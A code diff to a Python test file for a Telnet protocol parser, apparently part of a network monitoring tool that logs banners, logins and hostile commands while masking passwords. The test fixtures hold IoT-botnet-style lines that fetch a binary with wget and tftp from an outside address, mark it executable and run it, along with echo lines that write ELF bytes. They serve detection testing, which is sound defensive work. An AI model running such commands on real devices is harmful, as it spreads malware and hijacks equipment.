@@ -1,4 +1,4 @@
-"""Telnet: banners, logins and their result; never a password, nor what is typed later."""
+"""Telnet: banners, logins and their result, lines that plant programs; never a password, nor what else is typed later."""
 
 from __future__ import annotations
 
@@ -16,10 +16,14 @@ def talk(*parts: tuple[bool, bytes]) -> list[object]:
     return [said for from_client, data in parts for said in stream.feed(packet, data, from_client)]
 
 
+def of_client(port: int) -> list[Packet]:
+    return [packet for packet in packets("telnet") if port in (packet.sport, packet.dport)]
+
+
 def test_two_logins() -> None:
     """A refused login and an accepted one; corrected typing is read as it was meant."""
     stream = Telnet().stream(Packet())
-    said = [said for packet in packets("telnet") for said in stream.feed(packet, packet.payload, packet.dport == 23)]
+    said = [said for packet in of_client(49180) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
     banner = "SG350-28 28-Port Gigabit Managed Switch User Access Verification"
     assert events(said) == [
         ("TelnetBanner", banner),
@@ -28,6 +32,58 @@ def test_two_logins() -> None:
     ]
     assert facts(said) == [("02:00:5e:00:53:01", "10.20.30.1", "telnet.banner", banner)]
     assert "secret" not in repr(events(said))
+    assert stream.idle == (False, True)
+
+
+def test_a_program_is_planted() -> None:
+    """The word for the toolbox, and the line that fetches and runs; nothing else of what is typed. Passwords in addresses are left out."""
+    stream = Telnet().stream(Packet())
+    said = [said for packet in of_client(49181) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
+    line = "cd /tmp; wget http://203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel"
+    assert events(said) == [
+        ("TelnetLogin", "root", True, "accepted", seal("root", b"factory-secret")),
+        ("TelnetCommand", "/bin/busybox LZRD"),
+        ("TelnetCommand", line),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("typed", "told"),
+    [
+        (b"wget --http-password=x -p y http://a/b\n", "wget --http-password=*** -p *** http://a/b"),
+        (rb"echo -ne '\x7f\x45\x4c\x46' >> .l" + b"\r\n", r"echo -ne '\x7f\x45\x4c\x46' >> .l"),
+        (rb"echo -e '\177\105\114\106' > .l" + b"\r\n", r"echo -e '\177\105\114\106' > .l"),
+        (b"chmod +x l; ./l\r\0", "chmod +x l; ./l"),
+    ],
+)
+def test_lines_that_are_told_without_a_login(typed: bytes, told: str) -> None:
+    assert events(talk((False, b"BusyBox\r\n# "), (True, typed)))[-1] == ("TelnetCommand", told)
+
+
+def test_what_else_is_typed_stays_unsaid() -> None:
+    """A gap of the server behind a login changes nothing; one of the client voids the line."""
+    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
+    for from_client, data in (
+        (False, b"login: "),
+        (True, b"a\r\n"),
+        (False, b"Password: "),
+        (True, b"b\r\n"),
+        (False, b"$ "),
+        (True, b"passwd\r\nnew pass word\r\nwge"),
+    ):
+        list(stream.feed(packet, data, from_client))
+    list(stream.gap(packet, 100, False))
+    assert events(stream.feed(packet, b"t http://a/b\r\n", True)) == [("TelnetCommand", "wget http://a/b")]
+    list(stream.feed(packet, b"wg", True))
+    list(stream.gap(packet, 3, True))
+    assert events(stream.feed(packet, b"http://a/b\r\nls\r\ncat /etc/config\r\n", True)) == []
+
+
+def test_listening_ends() -> None:
+    """Behind a login some thousand bytes are heard."""
+    stream, packet = Telnet().stream(Packet()), Packet(proto=6)
+    for from_client, data in ((False, b"login: "), (True, b"a\r\n"), (False, b"Password: "), (True, b"b\r\n"), (False, b"$ "), (True, b"ls\r\n" * 3000)):
+        list(stream.feed(packet, data, from_client))
     assert stream.done
 
 
